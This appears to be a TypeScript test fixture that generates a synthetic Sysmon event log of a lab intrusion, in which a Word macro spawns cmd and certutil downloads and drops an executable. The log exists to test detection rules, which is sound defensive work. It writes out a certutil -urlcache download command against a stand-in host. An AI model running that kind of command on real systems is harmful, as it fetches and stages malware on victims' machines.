/** What Sysmon of a made-up machine recorded: a mail client opens a document whose macro runs a shell. */
const system = (id: number) =>
  `<System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>${id}</EventID><Computer>pc1.lab</Computer></System>`

function event(id: number, values: Readonly<Record<string, string>>): string {
  const data = Object.entries(values).map(([name, text]) => `<Data Name='${name}'>${escaped(text)}</Data>`)
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>${system(id)}<EventData>${data.join('')}</EventData></Event>`
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
}

const guid = (last: number) => `{b3c4d5e6-0000-0000-1111-00000000000${last}}`
const paths = {
  0: 'C:\\Windows\\System32\\userinit.exe',
  1: 'C:\\Windows\\explorer.exe',
  2: 'C:\\Program Files\\Office\\WINWORD.EXE',
  3: 'C:\\Windows\\System32\\cmd.exe',
  4: 'C:\\Windows\\System32\\certutil.exe',
} as const
type Which = keyof typeof paths

function created(which: Which, parent: Which, commandLine: string): string {
  return event(1, {
    UtcTime: `2024-05-06 07:08:0${which}.000`,
    ProcessGuid: guid(which),
    ProcessId: String(4_000 + which),
    Image: paths[which],
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Users\\ann\\',
    User: 'LAB\\ann',
    IntegrityLevel: 'Medium',
    Hashes: `SHA256=${String(which).repeat(64)}`,
    ParentProcessGuid: guid(parent),
    ParentProcessId: String(4_000 + parent),
    ParentImage: paths[parent],
    ParentCommandLine: '-',
    ParentUser: 'LAB\\ann',
  })
}

/** `mark` stands in the command line of the process that a rule is to find. */
export function sysmonLog(mark: string): string {
  const dropped = event(11, {
    UtcTime: '2024-05-06 07:08:05.000',
    ProcessGuid: guid(4),
    ProcessId: '4004',
    Image: paths[4],
    TargetFilename: 'C:\\Users\\ann\\AppData\\Local\\Temp\\x.exe',
    CreationUtcTime: '2024-05-06 07:08:05.000',
    User: 'LAB\\ann',
  })
  return [
    '<Events>',
    created(1, 0, 'explorer'),
    created(2, 1, '"WINWORD.EXE" letter.docm'),
    created(3, 2, 'cmd /c certutil'),
    created(4, 3, `certutil -urlcache -f http://example.test/${mark} x.exe`),
    dropped,
    event(10, { UtcTime: '2024-05-06 07:08:06.000', SourceImage: paths[4], TargetImage: paths[1] }),
    '</Events>',
  ].join('\n')
}
